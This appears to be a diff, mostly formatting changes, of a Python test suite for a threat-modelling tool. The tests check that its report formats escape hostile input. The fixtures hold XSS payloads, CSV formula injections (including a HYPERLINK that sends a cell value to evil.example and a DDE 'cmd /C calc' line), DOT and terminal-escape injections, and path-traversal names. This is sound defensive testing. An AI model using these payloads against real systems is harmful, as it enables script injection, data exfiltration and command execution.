@@ -29,9 +29,9 @@ from threatmodel.render import FORMATS
 HOSTILE = {
     "html": "<script>alert('x')</script><img src=x onerror=alert(1)></style></textarea>",
     "attr": "\"><svg onload=alert(2)>' autofocus onfocus='alert(3)",
-    "dot": "\"]; pwned [label=\"x\"]; a -> b; <<B>b</B>> \\N \\l \\\" { } subgraph cluster_x {",
+    "dot": '"]; pwned [label="x"]; a -> b; <<B>b</B>> \\N \\l \\" { } subgraph cluster_x {',
     "md": "| cell | [link](javascript:alert(4)) `tick` **b**\n\n# injected heading\n- item <br>",
-    "csv": "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
+    "csv": '=HYPERLINK("http://evil.example/?"&A1,"open")',
     "csv2": "+cmd|' /C calc'!A0",
     "csv3": "-2+3",
     "csv4": "@SUM(1,2)",
@@ -48,72 +48,176 @@ URL = "https://example.org/a)](javascript:alert(5))?q=x&b=`c`|d{e}"
 def documents(text: dict[str, str]) -> tuple[dict, dict, dict]:
     """A model, a catalog and a decisions file with `text` in every free-text field."""
     model = {
-        "system": {"id": "sys", "name": text["ansi"], "owner": text["csv"],
-                   "description": text["md"], "dpia_done": False},
-        "data": [{"id": "d.1", "name": text["dot"], "description": text["ansi"],
-                  "categories": ["purchase", "health"], "subjects": 2_000_000,
-                  "source": "data_subject"}],
-        "elements": [
-            {"id": "user", "kind": "actor", "type": "data_subject", "name": text["attr"],
-             "description": text["bidi"]},
-            {"id": "db..x:y", "kind": "datastore", "type": "database", "name": text["dot"],
-             "description": text["path"], "stores": ["d.1"], "encrypted_at_rest": False},
-            {"id": "app", "kind": "process", "type": "scoring", "name": text["md"],
-             "description": text["tmpl"], "inputs": ["d.1"], "purpose": text["md"]},
+        "system": {
+            "id": "sys",
+            "name": text["ansi"],
+            "owner": text["csv"],
+            "description": text["md"],
+            "dpia_done": False,
+        },
+        "data": [
+            {
+                "id": "d.1",
+                "name": text["dot"],
+                "description": text["ansi"],
+                "categories": ["purchase", "health"],
+                "subjects": 2_000_000,
+                "source": "data_subject",
+            }
         ],
-        "flows": [{"id": "f1", "from": "user", "to": "app", "data": ["d.1"], "name": text["csv3"],
-                   "description": text["ctl"]},
-                  {"id": "f2", "from": "app", "to": "db..x:y", "data": ["d.1"],
-                   "name": text["csv4"]}],
-        "boundaries": [{"id": "org", "kind": "organisation", "name": text["html"],
-                        "description": text["dot"], "members": ["app", "db..x:y"]}],
+        "elements": [
+            {
+                "id": "user",
+                "kind": "actor",
+                "type": "data_subject",
+                "name": text["attr"],
+                "description": text["bidi"],
+            },
+            {
+                "id": "db..x:y",
+                "kind": "datastore",
+                "type": "database",
+                "name": text["dot"],
+                "description": text["path"],
+                "stores": ["d.1"],
+                "encrypted_at_rest": False,
+            },
+            {
+                "id": "app",
+                "kind": "process",
+                "type": "scoring",
+                "name": text["md"],
+                "description": text["tmpl"],
+                "inputs": ["d.1"],
+                "purpose": text["md"],
+            },
+        ],
+        "flows": [
+            {
+                "id": "f1",
+                "from": "user",
+                "to": "app",
+                "data": ["d.1"],
+                "name": text["csv3"],
+                "description": text["ctl"],
+            },
+            {"id": "f2", "from": "app", "to": "db..x:y", "data": ["d.1"], "name": text["csv4"]},
+        ],
+        "boundaries": [
+            {
+                "id": "org",
+                "kind": "organisation",
+                "name": text["html"],
+                "description": text["dot"],
+                "members": ["app", "db..x:y"],
+            }
+        ],
         "controls": [{"mitigation": "MIT-H-2", "targets": ["db..x:y"], "note": text["md"]}],
     }
     catalog = {
         "catalog": {"id": "hostile", "title": text["html"], "version": 1},
         "frameworks": {"acme": {"title": text["attr"]}},
         "mitigations": [
-            {"id": "MIT-H-1", "title": text["csv"], "description": text["md"],
-             "effect": {"likelihood": -1}},
-            {"id": "MIT-H-2", "title": text["dot"], "description": text["ansi"],
-             "effect": {"impact": -1}},
+            {
+                "id": "MIT-H-1",
+                "title": text["csv"],
+                "description": text["md"],
+                "effect": {"likelihood": -1},
+            },
+            {
+                "id": "MIT-H-2",
+                "title": text["dot"],
+                "description": text["ansi"],
+                "effect": {"impact": -1},
+            },
         ],
-        "references": [{"id": "ref-h", "kind": "incident", "title": text["html"],
-                        "fact": text["csv2"], "url": URL}],
+        "references": [
+            {
+                "id": "ref-h",
+                "kind": "incident",
+                "title": text["html"],
+                "fact": text["csv2"],
+                "url": URL,
+            }
+        ],
         "risks": [
-            {"id": "H-SEC-01", "title": text["html"], "description": text["md"],
-             "applies_to": "datastore", "when": "personal_data and not encrypted_at_rest",
-             "likelihood": 4, "impact": 4,
-             "modifiers": [{"when": "subjects >= 1_000_000", "impact": 1, "why": text["csv"]}],
-             "frameworks": {"stride": ["I"], "acme": [text["dot"]]},
-             "mitigations": ["MIT-H-1", "MIT-H-2"], "references": ["ref-h"],
-             "attack_tree": {"goal": text["dot"], "any": [
-                 {"step": text["html"], "blocked_by": "MIT-H-1"},
-                 {"all": [{"step": text["md"]}, {"step": text["ansi"]}]}]}},
-            {"id": "H-CREEP-02", "title": text["bidi"], "description": text["dot"],
-             "applies_to": "dataflow", "when": "personal_data", "likelihood": 3, "impact": 3,
-             "mitigations": ["MIT-H-1"]},
-            {"id": "H-OPA-03", "title": text["md"], "description": text["tmpl"],
-             "applies_to": "process", "when": "personal_data and purpose != 'none'",
-             "likelihood": 2, "impact": 4, "mitigations": ["MIT-H-2"]},
-            {"id": "H-SYS-04", "title": text["csv4"], "description": text["ctl"],
-             "applies_to": "system", "when": "not dpia_done", "likelihood": 3, "impact": 2,
-             "mitigations": ["MIT-H-1"]},
+            {
+                "id": "H-SEC-01",
+                "title": text["html"],
+                "description": text["md"],
+                "applies_to": "datastore",
+                "when": "personal_data and not encrypted_at_rest",
+                "likelihood": 4,
+                "impact": 4,
+                "modifiers": [{"when": "subjects >= 1_000_000", "impact": 1, "why": text["csv"]}],
+                "frameworks": {"stride": ["I"], "acme": [text["dot"]]},
+                "mitigations": ["MIT-H-1", "MIT-H-2"],
+                "references": ["ref-h"],
+                "attack_tree": {
+                    "goal": text["dot"],
+                    "any": [
+                        {"step": text["html"], "blocked_by": "MIT-H-1"},
+                        {"all": [{"step": text["md"]}, {"step": text["ansi"]}]},
+                    ],
+                },
+            },
+            {
+                "id": "H-CREEP-02",
+                "title": text["bidi"],
+                "description": text["dot"],
+                "applies_to": "dataflow",
+                "when": "personal_data",
+                "likelihood": 3,
+                "impact": 3,
+                "mitigations": ["MIT-H-1"],
+            },
+            {
+                "id": "H-OPA-03",
+                "title": text["md"],
+                "description": text["tmpl"],
+                "applies_to": "process",
+                "when": "personal_data and purpose != 'none'",
+                "likelihood": 2,
+                "impact": 4,
+                "mitigations": ["MIT-H-2"],
+            },
+            {
+                "id": "H-SYS-04",
+                "title": text["csv4"],
+                "description": text["ctl"],
+                "applies_to": "system",
+                "when": "not dpia_done",
+                "likelihood": 3,
+                "impact": 2,
+                "mitigations": ["MIT-H-1"],
+            },
         ],
     }
-    decisions = {"decisions": {"H-OPA-03@app": {
-        "status": "accepted", "justification": text["html"], "owner": text["csv"],
-        "date": "2025-01-01", "ticket": text["md"]}}}
+    decisions = {
+        "decisions": {
+            "H-OPA-03@app": {
+                "status": "accepted",
+                "justification": text["html"],
+                "owner": text["csv"],
+                "date": "2025-01-01",
+                "ticket": text["md"],
+            }
+        }
+    }
     return model, catalog, decisions
 
 
 def write_inputs(directory: Path, text: dict[str, str]) -> Path:
     directory.mkdir(parents=True, exist_ok=True)
     model, catalog, decisions = documents(text)
-    for name, data in (("model.yaml", model), ("catalog.yaml", catalog),
-                       ("model.decisions.yaml", decisions)):
-        (directory / name).write_text(yaml.safe_dump(data, sort_keys=False, allow_unicode=False),
-                                      encoding="utf-8")
+    for name, data in (
+        ("model.yaml", model),
+        ("catalog.yaml", catalog),
+        ("model.decisions.yaml", decisions),
+    ):
+        (directory / name).write_text(
+            yaml.safe_dump(data, sort_keys=False, allow_unicode=False), encoding="utf-8"
+        )
     return directory / "model.yaml"
 
 
@@ -128,9 +232,21 @@ def analyze_captured(directory: Path, text: dict[str, str]):
     out, err = io.StringIO(), io.StringIO()
     with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
         model = write_inputs(directory, text)
-        status = main(["analyze", str(model), "--catalog", str(directory / "catalog.yaml"),
-                       "--no-shipped", "-o", str(directory / "out"),
-                       "--format", ",".join(usable_formats()), "--today", "2025-06-01"])
+        status = main(
+            [
+                "analyze",
+                str(model),
+                "--catalog",
+                str(directory / "catalog.yaml"),
+                "--no-shipped",
+                "-o",
+                str(directory / "out"),
+                "--format",
+                ",".join(usable_formats()),
+                "--today",
+                "2025-06-01",
+            ]
+        )
     assert status == 0, err.getvalue()
     return directory / "out", out.getvalue() + err.getvalue()
 
@@ -150,8 +266,9 @@ def read(outputs, which: str, name: str) -> str:
 
 def test_every_registered_format_is_checked(outputs):
     """A new output format must get its own escaping check here."""
-    assert set(FORMATS) <= set(CHECKED), f"formats without an injection check: " \
-                                         f"{sorted(set(FORMATS) - set(CHECKED))}"
+    assert set(FORMATS) <= set(CHECKED), (
+        f"formats without an injection check: {sorted(set(FORMATS) - set(CHECKED))}"
+    )
     written = sorted(p.name for p in outputs["hostile"].iterdir())
     assert written == sorted(FORMATS[name].file for name in usable_formats())
 
@@ -186,8 +303,10 @@ def test_markdown_structure_is_unchanged(outputs):
 def test_html_has_the_same_tags_and_no_handlers(outputs):
     """The hostile report has exactly the tags and attributes of the plain one: no script,
     no event handler, no javascript: link that the text brought in."""
-    hostile, benign = _html_shape(read(outputs, "hostile", "html")), \
-        _html_shape(read(outputs, "benign", "html"))
+    hostile, benign = (
+        _html_shape(read(outputs, "hostile", "html")),
+        _html_shape(read(outputs, "benign", "html")),
+    )
     assert hostile["tags"] == benign["tags"]
     assert hostile["attributes"] == benign["attributes"]
     assert not [a for a in hostile["attributes"] if a[1].startswith("on")]
@@ -213,8 +332,13 @@ def test_dot_source_draws_the_same_graph(outputs):
     shapes = []
     for which in ("hostile", "benign"):
         source = read(outputs, which, "dot")
-        svg = subprocess.run(["dot", "-Tsvg"], input=source.encode("utf-8"), capture_output=True,
-                             timeout=120, check=True).stdout.decode("utf-8")
+        svg = subprocess.run(
+            ["dot", "-Tsvg"],
+            input=source.encode("utf-8"),
+            capture_output=True,
+            timeout=120,
+            check=True,
+        ).stdout.decode("utf-8")
         shapes.append(_svg_shape(svg))
     assert shapes[0]["groups"] == shapes[1]["groups"]
 
@@ -240,8 +364,12 @@ def test_console_output_has_no_terminal_escapes(outputs):
 def test_catalog_show_and_list_escape_terminal_text(outputs, capsys):
     """`catalog show` and `catalog list` print hostile catalog text without escapes."""
     catalog = str(outputs["base"] / "hostile" / "catalog.yaml")
-    for argv in (["catalog", "show", "H-SEC-01"], ["catalog", "show", "MIT-H-2"],
-                 ["catalog", "show", "ref-h"], ["catalog", "list"]):
+    for argv in (
+        ["catalog", "show", "H-SEC-01"],
+        ["catalog", "show", "MIT-H-2"],
+        ["catalog", "show", "ref-h"],
+        ["catalog", "list"],
+    ):
         assert main([*argv, "--no-shipped", "--catalog", catalog]) == 0
         captured = capsys.readouterr()
         assert not _controls(captured.out + captured.err), argv
@@ -254,8 +382,23 @@ def test_diff_output_escapes_hostile_names(outputs, tmp_path, capsys, fmt):
     old = tmp_path / "old.yaml"
     old.write_text("system: {id: sys, name: Old}\nelements:\n  - {id: other, kind: actor}\n")
     hostile = outputs["base"] / "hostile"
-    assert main(["diff", str(old), str(hostile / "model.yaml"), "--no-shipped", "--catalog",
-                 str(hostile / "catalog.yaml"), "--format", fmt, "--today", "2025-06-01"]) == 0
+    assert (
+        main(
+            [
+                "diff",
+                str(old),
+                str(hostile / "model.yaml"),
+                "--no-shipped",
+                "--catalog",
+                str(hostile / "catalog.yaml"),
+                "--format",
+                fmt,
+                "--today",
+                "2025-06-01",
+            ]
+        )
+        == 0
+    )
     captured = capsys.readouterr()
     assert "H-SEC-01" in captured.out
     assert not _controls(captured.out + captured.err)
@@ -265,8 +408,17 @@ def test_diff_output_escapes_hostile_names(outputs, tmp_path, capsys, fmt):
 def test_error_messages_escape_hostile_values(tmp_path, capsys):
     """A hostile value quoted in an error message is printed with its escapes visible."""
     model = tmp_path / "m.yaml"
-    model.write_text(yaml.safe_dump({"system": {"id": "s"}, "elements": [
-        {"id": "a", "kind": HOSTILE["ansi"]}, {"id": "b", "kind": HOSTILE["bidi"]}]}))
+    model.write_text(
+        yaml.safe_dump(
+            {
+                "system": {"id": "s"},
+                "elements": [
+                    {"id": "a", "kind": HOSTILE["ansi"]},
+                    {"id": "b", "kind": HOSTILE["bidi"]},
+                ],
+            }
+        )
+    )
     assert main(["validate", str(model)]) == 2
     err = capsys.readouterr().err
     assert "unknown kind" in err and "\\x1b[2J" in err
@@ -278,10 +430,13 @@ def test_nothing_is_written_outside_the_output_directory(outputs):
     the output directory (and the inputs' directory untouched)."""
     base = outputs["base"]
     for which in ("hostile", "benign"):
-        files = sorted(p.relative_to(base / which).as_posix()
-                       for p in (base / which).rglob("*") if p.is_file())
-        assert files == sorted(["model.yaml", "catalog.yaml", "model.decisions.yaml"] +
-                               [f"out/{FORMATS[n].file}" for n in usable_formats()])
+        files = sorted(
+            p.relative_to(base / which).as_posix() for p in (base / which).rglob("*") if p.is_file()
+        )
+        assert files == sorted(
+            ["model.yaml", "catalog.yaml", "model.decisions.yaml"]
+            + [f"out/{FORMATS[n].file}" for n in usable_formats()]
+        )
     assert sorted(p.name for p in base.iterdir()) == ["benign", "hostile"]
 
 
@@ -294,8 +449,20 @@ def test_diagram_file_names_from_ids_stay_in_their_directory(outputs, monkeypatc
     work.mkdir()
     monkeypatch.chdir(work)
     model = outputs["base"] / "hostile" / "model.yaml"
-    assert main(["diagram", str(model), "--data", "d.1", "--no-shipped", "--catalog",
-                 str(outputs["base"] / "hostile" / "catalog.yaml")]) == 0
+    assert (
+        main(
+            [
+                "diagram",
+                str(model),
+                "--data",
+                "d.1",
+                "--no-shipped",
+                "--catalog",
+                str(outputs["base"] / "hostile" / "catalog.yaml"),
+            ]
+        )
+        == 0
+    )
     capsys.readouterr()
     files = [p.relative_to(work).as_posix() for p in work.rglob("*") if p.is_file()]
     assert len(files) == 1 and files[0].startswith("threatmodel-out/model/")
@@ -310,17 +477,42 @@ def test_portfolio_report_directories_stay_inside_and_apart(tmp_path, capsys):
     for name in ("...yaml", "..yaml", "a b.yaml", "a_b.yaml"):
         (models / name).write_text("system: {id: s}\n")
     out = tmp_path / "out" / "reports"
-    main(["analyze", str(models), "-o", str(out), "--no-shipped", "--catalog",
-          str(Path(__file__).parent / "fixtures" / "catalog"), "--format", "json", "--quiet"])
+    main(
+        [
+            "analyze",
+            str(models),
+            "-o",
+            str(out),
+            "--no-shipped",
+            "--catalog",
+            str(Path(__file__).parent / "fixtures" / "catalog"),
+            "--format",
+            "json",
+            "--quiet",
+        ]
+    )
     capsys.readouterr()
     reports = sorted(p.relative_to(tmp_path).as_posix() for p in tmp_path.rglob("findings.json"))
     assert len(reports) == 4
     assert all(r.startswith("out/reports/") and r.count("/") == 3 for r in reports), reports
 
 
-@pytest.mark.parametrize("name", ["../../etc/passwd", "/etc/passwd", "..", ".", "",
-                                  "a/b\\c", "con\x00.txt", "\u2215etc\u2215passwd",
-                                  "x" * 500, ".hidden", "report.html/../../x"])
+@pytest.mark.parametrize(
+    "name",
+    [
+        "../../etc/passwd",
+        "/etc/passwd",
+        "..",
+        ".",
+        "",
+        "a/b\\c",
+        "con\x00.txt",
+        "\u2215etc\u2215passwd",
+        "x" * 500,
+        ".hidden",
+        "report.html/../../x",
+    ],
+)
 def test_safe_names_cannot_leave_the_directory(tmp_path, name):
     """Any requested output name becomes one plain file name inside the directory."""
     cleaned = safe_name(name)
@@ -414,8 +606,7 @@ def _html_shape(text: str) -> dict:
     parser = _Shape()
     parser.feed(text)
     parser.close()
-    return {"tags": parser.tags, "attributes": parser.attributes,
-            "javascript": parser.javascript}
+    return {"tags": parser.tags, "attributes": parser.attributes, "javascript": parser.javascript}
 
 
 def _svg_shape(text: str) -> dict:
@@ -432,6 +623,7 @@ def _svg_shape(text: str) -> dict:
         for name, value in element.attrib.items():
             local = name.rsplit("}", 1)[-1]
             if local.lower().startswith("on") or (
-                    local == "href" and value.strip().lower().startswith("javascript:")):
+                local == "href" and value.strip().lower().startswith("javascript:")
+            ):
                 unsafe.append(f"{tag} {local}={value}")
     return {"groups": groups, "unsafe": unsafe}
